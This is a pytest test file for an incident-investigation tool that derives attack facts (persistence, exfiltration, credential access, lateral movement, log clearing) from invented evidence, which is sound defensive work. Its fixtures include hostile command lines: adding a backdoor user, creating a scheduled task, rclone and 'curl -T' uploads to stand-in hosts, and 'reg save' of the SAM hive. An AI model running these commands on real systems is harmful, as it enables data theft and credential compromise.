"""Facts of each family from invented evidence; and none where nothing of it happened."""

from __future__ import annotations

import re

import pytest
from tests.investigate.evidence import HOST, Evidence

from yoban.investigate.facts import MAKERS, credentials, key_facts, lateral, privileges, tampering
from yoban.investigate.scene import scene
from yoban.model.case import KeyFact
from yoban.runtime.phrases import catalogue

PAYLOAD = "C:\\Users\\ana\\Downloads\\offer.exe"
SYSTEM32 = "C:\\Windows\\System32\\"


def intrusion() -> Evidence:
    """A payload that ran and was found."""
    evidence = Evidence()
    row = evidence.start(10, PAYLOAD, 100)
    evidence.found(row, attack=["T1204.002"], tactics=["execution"])
    return evidence


def told(evidence: Evidence, kind: str) -> list[KeyFact]:
    """Facts of a kind."""
    return [fact for fact in key_facts(scene(evidence.group())) if fact.kind == kind]


@pytest.mark.parametrize(
    ("image", "line", "kind", "value"),
    [
        ("schtasks.exe", 'schtasks /create /tn "Up" /tr C:\\a.exe', "persistence", "Up"),
        ("sc.exe", "sc create Upd binPath= C:\\ProgramData\\u.exe", "persistence", "Upd"),
        ("net.exe", "net user eve Pa55 /add", "persistence", "eve"),
        (
            "rar.exe",
            "rar a C:\\t\\f.rar D:\\docs",
            "collection",
            "C:\\t\\f.rar",
        ),
        ("rclone.exe", "rclone copy D:\\docs drop:in", "exfiltration", "drop:in"),
        (
            "curl.exe",
            "curl -T f.rar https://up.example.net",
            "exfiltration",
            "https://up.example.net",
        ),
        ("reg.exe", "reg save HKLM\\SAM C:\\t\\s.hiv", "credential_access", "C:\\t\\s.hiv"),
        ("nltest.exe", "nltest /dclist:", "discovery", "nltest /dclist:"),
    ],
)
def test_commands_of_the_attack(image: str, line: str, kind: str, value: str) -> None:
    evidence = intrusion()
    evidence.start(20, SYSTEM32 + image, 101, 100, line, parent_image=PAYLOAD)
    assert [fact.value for fact in told(evidence, kind)] == [value]


def test_the_same_commands_of_somebody_else_tell_nothing() -> None:
    evidence = intrusion()
    evidence.start(20, SYSTEM32 + "net.exe", 201, 200, "net user bob Pa55 /add", user="admin")
    assert told(evidence, "persistence") == []
    assert [f.value for f in told(evidence, "account_used")] == ["ana"]


def test_a_download_by_curl_is_no_upload() -> None:
    evidence = intrusion()
    line = "curl -f -o a.txt https://down.example.net"
    evidence.start(20, SYSTEM32 + "curl.exe", 101, 100, line, parent_image=PAYLOAD)
    assert told(evidence, "exfiltration") == []


def test_a_folder_names_its_owner_without_using_the_account() -> None:
    evidence = Evidence()
    row = evidence.start(10, "C:\\Users\\eve\\Downloads\\offer.exe", 100, user="ana")
    evidence.found(row, attack=["T1204.002"], tactics=["execution"])
    assert [f.value for f in told(evidence, "account_used")] == ["ana"]
    assert [f.value for f in told(evidence, "account_mentioned")] == ["eve"]


def test_a_tool_is_known_under_any_name() -> None:
    evidence = intrusion()
    row = evidence.start(20, SYSTEM32 + "calc1.exe", 101, 100, "calc1 -x", parent_image=PAYLOAD)
    evidence.found(
        row, attack=["T1003"], tactics=["credential-access"], OriginalFileName="procdump"
    )
    (tool,) = told(evidence, "tool")
    assert (tool.value, tool.details["use"]) == (SYSTEM32 + "calc1.exe", "credentials")


def test_a_service_for_a_token_is_escalation_and_no_foothold() -> None:
    evidence = intrusion()
    row = evidence.event(15, (0, 0), service__name="qzx")
    evidence.found(
        row,
        attack=["T1543.003"],
        tactics=["persistence", "privilege-escalation"],
        EventID="7045",
        ServiceName="qzx",
        ImagePath="cmd.exe /c echo qzx > \\\\.\\pipe\\qzx",
    )
    assert [f.value for f in told(evidence, "privilege_escalation")] == ["qzx"]
    assert told(evidence, "persistence") == []


def test_logs_cleared_before_anything_ran_are_not_the_attacks() -> None:
    for at, expected in ((5, []), (50, ["Security"])):
        evidence = intrusion()
        row = evidence.event(at, (0, 0))
        evidence.found(
            row, "medium", attack=["T1070.001"], tactics=["defense-evasion"], EventID="1102"
        )
        assert [f.value for f in told(evidence, "defence_tampering")] == expected


def test_much_that_went_to_the_server_is_exfiltration() -> None:
    evidence = intrusion()
    evidence.connect(12, 100, "198.51.100.9", 443)
    evidence.event(
        13,
        (4001, 6),
        "zeek",
        device__hostname=None,
        src_endpoint__ip="10.9.0.7",
        dst_endpoint__ip="198.51.100.9",
        dst_endpoint__port=443,
        traffic__bytes_out=50_000_000,
        traffic__bytes_in=90_000,
    )
    (sent,) = told(evidence, "exfiltration")
    assert (sent.value, sent.inferred) == ("198.51.100.9:443", True)


def test_cloud_changes_and_mail_rules_name_their_principal() -> None:
    evidence = Evidence()
    row = evidence.event(
        1, (6003, 1), "aws", device__hostname=None, api__operation="CreateAccessKey",
        actor__user__name="ops", cloud__account__uid="1", api__service__name="iam",
    )  # fmt: skip
    evidence.found(
        row,
        attack=["T1098.001"],
        tactics=["persistence"],
        entities=[("account", "ops", "actor")],
        requestParameters={"userName": "backup"},
    )
    assert [(f.value, f.details["account"]) for f in told(evidence, "cloud_change")] == [
        ("CreateAccessKey", "ops")
    ]
    assert [f.value for f in told(evidence, "persistence")] == ["backup"]
    assert [f.value for f in told(evidence, "account_used")] == ["ops"]


def test_a_logon_of_the_tactic_is_an_edge_between_two_hosts() -> None:
    evidence = intrusion()
    row = evidence.event(30, (3002, 1), user__name="ana", src_endpoint__ip="10.9.0.99")
    evidence.found(row, attack=["T1021.002"], tactics=["lateral-movement"])
    (edge,) = told(evidence, "lateral_movement")
    assert edge.value == f"10.9.0.99 -> {HOST.split('.')[0]}"
    assert edge.details["how"] == "administrative share"


def test_no_findings_of_note_no_facts() -> None:
    evidence = Evidence()
    evidence.found(evidence.event(1, (0, 0)), "medium")
    assert key_facts(scene(evidence.group())) == ()
    assert len(MAKERS) == 12


def test_our_own_words_stand_in_the_catalogues() -> None:
    tables = (
        credentials.METHODS, lateral.METHODS, lateral.STARTERS, privileges.METHODS,
        tampering.METHODS, tampering.IMPACTS,
    )  # fmt: skip
    words = {re.sub(r"[^a-z0-9]+", "_", w.lower()) for table in tables for w in table.values()}
    assert {f"fact.word.{word}" for word in words} <= catalogue("ja").keys()
